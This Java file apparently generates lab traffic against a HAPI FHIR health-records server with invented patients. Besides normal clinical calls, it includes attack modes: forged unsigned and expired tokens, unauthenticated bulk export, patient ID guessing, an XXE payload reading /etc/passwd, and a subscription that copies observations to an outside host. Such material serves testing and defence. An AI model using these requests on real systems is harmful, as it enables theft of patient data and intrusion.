package lab;

import ca.uhn.fhir.context.FhirContext;
import ca.uhn.fhir.rest.api.*;
import ca.uhn.fhir.rest.client.api.*;
import ca.uhn.fhir.rest.client.interceptor.*;
import ca.uhn.fhir.rest.server.exceptions.BaseServerResponseException;
import java.net.URI;
import java.net.http.*;
import java.nio.charset.StandardCharsets;
import java.util.*;
import org.hl7.fhir.r4.model.*;

/** Scenes of HAPI's client, with invented patients. */
public class Client {
  static String base;
  static IGenericClient fhir;

  /** An unsigned token whose claims are those of a real one. */
  static String token(long seconds, String scope) {
    Base64.Encoder e = Base64.getUrlEncoder().withoutPadding();
    long exp = System.currentTimeMillis() / 1000 + seconds;
    String claims = "{\"iss\":\"https://login.ward.example\",\"sub\":\"nurse-7\",\"aud\":\"ward-fhir\",\"client_id\":\"bedside-app\",\"scope\":\"" + scope + "\",\"patient\":\"1000\",\"fhirUser\":\"Practitioner/7\",\"exp\":" + exp + "}";
    return e.encodeToString("{\"alg\":\"RS256\",\"kid\":\"1\"}".getBytes()) + "." + e.encodeToString(claims.getBytes()) + "." + e.encodeToString("InventedSignature4711".getBytes());
  }

  static Patient patient(String mrn, String family, String given, String birth) {
    Patient p = new Patient();
    p.addIdentifier().setSystem("urn:oid:1.2.3.4").setValue(mrn).getType().addCoding().setSystem("http://terminology.hl7.org/CodeSystem/v2-0203").setCode("MR");
    p.addIdentifier().setSystem("http://hl7.org/fhir/sid/us-ssn").setValue("000-00-" + mrn.substring(4));
    p.addName().setUse(HumanName.NameUse.OFFICIAL).setFamily(family).addGiven(given);
    p.setBirthDateElement(new DateType(birth)).setGender(Enumerations.AdministrativeGender.FEMALE).setActive(true);
    p.addTelecom().setSystem(ContactPoint.ContactPointSystem.PHONE).setValue("555-0147");
    return p;
  }

  static Observation observation(String patient, String code, String name, double value, String unit) {
    Observation o = new Observation();
    o.setStatus(Observation.ObservationStatus.FINAL).setSubject(new Reference("Patient/" + patient));
    o.getCode().addCoding().setSystem("http://loinc.org").setCode(code).setDisplay(name);
    o.setEffective(new DateTimeType("2026-03-01T08:15:00Z"));
    o.setValue(new Quantity().setValue(value).setUnit(unit).setSystem("http://unitsofmeasure.org").setCode(unit));
    o.setDevice(new Reference("Device/1001").setDisplay("Monitor 3"));
    return o;
  }

  static Observation pressure(String patient) {
    Observation o = observation(patient, "85354-9", "Blood pressure panel", 0, "mm[Hg]");
    o.setValue(null);
    for (String[] c : new String[][] {{"8480-6", "Systolic blood pressure", "121"}, {"8462-4", "Diastolic blood pressure", "78"}}) {
      Observation.ObservationComponentComponent x = o.addComponent();
      x.getCode().addCoding().setSystem("http://loinc.org").setCode(c[0]).setDisplay(c[1]);
      x.setValue(new Quantity().setValue(Integer.parseInt(c[2])).setUnit("mmHg").setSystem("http://unitsofmeasure.org").setCode("mm[Hg]"));
    }
    return o;
  }

  static String id(MethodOutcome o) { return o.getId().getIdPart(); }

  static HttpResponse<String> raw(String method, String path, String type, String body, String auth) throws Exception {
    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(path.startsWith("http") ? path : base + path)).version(HttpClient.Version.HTTP_1_1);
    b.method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
    if (type != null) b.header("Content-Type", type);
    if (auth != null) b.header("Authorization", auth);
    return HttpClient.newHttpClient().send(b.build(), HttpResponse.BodyHandlers.ofString());
  }

  static void quietly(Runnable r) {
    try {
      r.run();
    } catch (BaseServerResponseException e) {
      // the answer is what is wanted
    }
  }

  /** A day's work: every interaction, with a token. */
  static void work() throws Exception {
    String p = id(fhir.create().resource(patient("LAB-4711", "LABPATIENT", "JOIN", "1970-01-02")).execute());
    Device d = new Device();
    d.setManufacturer("Philips").setModelNumber("MX450").setSerialNumber("DE-4711-0003").setLotNumber("L7");
    d.addUdiCarrier().setDeviceIdentifier("00884838092747").setCarrierHRF("(01)00884838092747(21)DE-4711-0003");
    d.addDeviceName().setName("Monitor 3").setType(Device.DeviceNameType.USERFRIENDLYNAME);
    d.addVersion().setValue("M.04.10");
    d.addIdentifier().setValue("MON-3");
    fhir.create().resource(d).execute();
    Encounter e = new Encounter();
    e.setStatus(Encounter.EncounterStatus.INPROGRESS).setSubject(new Reference("Patient/" + p)).getClass_().setCode("IMP");
    e.addIdentifier().setValue("V4711");
    e.setPeriod(new Period().setStartElement(new DateTimeType("2026-03-01T08:00:00Z")));
    e.addLocation().setStatus(Encounter.EncounterLocationStatus.ACTIVE).setLocation(new Reference("Location/icu-3").setDisplay("ICU 3"));
    String visit = id(fhir.create().resource(e).execute());
    fhir.create().resource(observation(p, "8867-4", "Heart rate", 72, "/min")).execute();
    fhir.create().resource(pressure(p)).execute();
    MedicationRequest m = new MedicationRequest();
    m.setStatus(MedicationRequest.MedicationRequestStatus.ACTIVE).setIntent(MedicationRequest.MedicationRequestIntent.ORDER).setSubject(new Reference("Patient/" + p));
    m.addIdentifier().setValue("ORD-1");
    m.setMedication(new CodeableConcept().addCoding(new Coding("http://www.nlm.nih.gov/research/umls/rxnorm", "7512", "norepinephrine")));
    m.setAuthoredOnElement(new DateTimeType("2026-03-01T08:20:00Z"));
    m.addDosageInstruction().addDoseAndRate().setRate(new Quantity().setValue(5).setUnit("mL/h").setSystem("http://unitsofmeasure.org").setCode("mL/h"));
    String order = id(fhir.create().resource(m).execute());
    MedicationAdministration a = new MedicationAdministration();
    a.setStatus(MedicationAdministration.MedicationAdministrationStatus.COMPLETED).setSubject(new Reference("Patient/" + p)).setRequest(new Reference("MedicationRequest/" + order));
    a.setMedication(m.getMedication().copy()).setEffective(new DateTimeType("2026-03-01T08:25:00Z"));
    a.getDosage().setDose(new Quantity().setValue(4).setUnit("mg").setSystem("http://unitsofmeasure.org").setCode("mg"));
    fhir.create().resource(a).execute();

    fhir.capabilities().ofType(CapabilityStatement.class).execute();
    fhir.read().resource(Patient.class).withId(p).execute();
    fhir.read().resource(Patient.class).withIdAndVersion(p, "1").execute();
    quietly(() -> fhir.read().resource(Patient.class).withId("999").execute());
    fhir.search().forResource(Patient.class).where(Patient.IDENTIFIER.exactly().systemAndCode("urn:oid:1.2.3.4", "LAB-4711")).returnBundle(Bundle.class).execute();
    fhir.search().forResource(Patient.class).where(Patient.NAME.matches().value("LABPATIENT")).where(Patient.BIRTHDATE.exactly().day("1970-01-02")).usingStyle(SearchStyleEnum.POST).returnBundle(Bundle.class).execute();
    fhir.search().forResource(Observation.class).where(Observation.PATIENT.hasId(p)).count(10).encodedXml().returnBundle(Bundle.class).execute();
    fhir.history().onInstance(new IdType("Patient", p)).returnBundle(Bundle.class).execute();
    fhir.operation().onInstance(new IdType("Patient", p)).named("$everything").withNoParameters(Parameters.class).useHttpGet().returnResourceType(Bundle.class).execute();
    e.addLocation().setStatus(Encounter.EncounterLocationStatus.ACTIVE).setLocation(new Reference("Location/w-12").setDisplay("Ward 12"));
    e.getLocation().get(0).setStatus(Encounter.EncounterLocationStatus.COMPLETED);
    e.setId(visit);
    fhir.update().resource(e).execute();
    m.setStatus(MedicationRequest.MedicationRequestStatus.STOPPED).setId(order);
    fhir.update().resource(m).encodedXml().execute();
    raw("PATCH", "/MedicationRequest/" + order, "application/json-patch+json", "[{\"op\":\"replace\",\"path\":\"/status\",\"value\":\"completed\"}]", "Bearer " + token(600, "user/*.cruds"));
    Bundle t = new Bundle();
    t.setType(Bundle.BundleType.TRANSACTION);
    t.addEntry().setResource(observation(p, "59408-5", "Oxygen saturation", 97, "%")).getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Observation");
    t.addEntry().getRequest().setMethod(Bundle.HTTPVerb.GET).setUrl("Patient/" + p);
    fhir.transaction().withBundle(t).execute();
    Bundle batch = new Bundle();
    batch.setType(Bundle.BundleType.BATCH);
    batch.addEntry().getRequest().setMethod(Bundle.HTTPVerb.GET).setUrl("Patient/999");
    fhir.transaction().withBundle(batch).execute();
    String extra = id(fhir.create().resource(patient("LAB-4712", "LABPATIENT", "OTHER", "1971-02-03")).execute());
    fhir.delete().resourceById("Patient", extra).execute();
  }

  /** SMART in clear: discovery, authorization, token. */
  static void smart() throws Exception {
    String root = base.replace("/fhir", "");
    raw("GET", "/.well-known/smart-configuration", null, null, null);
    raw("GET", root + "/auth/authorize?response_type=code&client_id=bedside-app&redirect_uri=http%3A%2F%2F10.20.0.66%2Fback&scope=launch%20patient%2F*.rs&launch=xyz4711&aud=" + base + "&state=1&code_challenge=abc&code_challenge_method=S256", null, null, null);
    raw("POST", root + "/auth/token", "application/x-www-form-urlencoded", "grant_type=authorization_code&code=Invented4711&redirect_uri=http%3A%2F%2F10.20.0.66%2Fback&client_id=bedside-app&client_secret=Invented-4711&code_verifier=v4711", null);
    raw("POST", root + "/auth/token", "application/x-www-form-urlencoded", "grant_type=client_credentials&scope=system%2F*.rs&client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer&client_assertion=aaa.bbb.ccc", null);
  }

  /** Without a token: an export, its file, large searches, a subscription that sends elsewhere, an expired token. */
  static void harvest() throws Exception {
    List<Patient> many = new ArrayList<>();
    Bundle t = new Bundle();
    t.setType(Bundle.BundleType.TRANSACTION);
    for (int i = 0; i < 45; i++) t.addEntry().setResource(patient("LAB-" + (5000 + i), "LABPATIENT", "N" + i, "1980-01-01")).getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Patient");
    fhir.transaction().withBundle(t).execute();
    raw("GET", "/$export?_type=Patient&_outputFormat=application/fhir%2Bndjson", null, null, null);
    raw("GET", "/$export-poll-status?_jobId=1", null, null, null);
    raw("GET", base.replace("/fhir", "/bulk/Patient.ndjson"), null, null, null);
    raw("GET", "/Patient?_count=1000", null, null, null);
    raw("GET", "/Patient/1000/$everything", null, null, "Bearer " + token(-86400, "patient/*.rs"));
    Subscription s = new Subscription();
    s.setStatus(Subscription.SubscriptionStatus.REQUESTED).setReason("copies").setCriteria("Observation?");
    s.getChannel().setType(Subscription.SubscriptionChannelType.RESTHOOK).setEndpoint("http://203.0.113.77/collect?key=Invented-4711").setPayload("application/fhir+json");
    fhir.create().resource(s).execute();
    raw("POST", "/Patient", "application/fhir+xml", "<?xml version=\"1.0\"?><!DOCTYPE Patient [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Patient xmlns=\"http://hl7.org/fhir\"><active value=\"&x;\"/></Patient>", null);
  }

  /** Ids are guessed, until some answer. */
  static void guess() throws Exception {
    id(fhir.create().resource(patient("LAB-4711", "LABPATIENT", "JOIN", "1970-01-02")).execute());
    for (int i = 940; i <= 1005; i++) {
      final String one = Integer.toString(i);
      quietly(() -> fhir.read().resource(Patient.class).withId(one).execute());
    }
  }

  public static void main(String[] args) throws Exception {
    base = "http://" + args[1] + ":" + args[2] + "/fhir";
    FhirContext c = FhirContext.forR4();
    c.getRestfulClientFactory().setServerValidationMode(ServerValidationModeEnum.NEVER);
    fhir = c.newRestfulGenericClient(base);
    switch (args[0]) {
      case "work" -> {
        fhir.registerInterceptor(new BearerTokenAuthInterceptor(token(600, "user/*.cruds")));
        work();
      }
      case "smart" -> smart();
      case "harvest" -> harvest();
      case "guess" -> guess();
    }
    System.exit(0);
  }
}
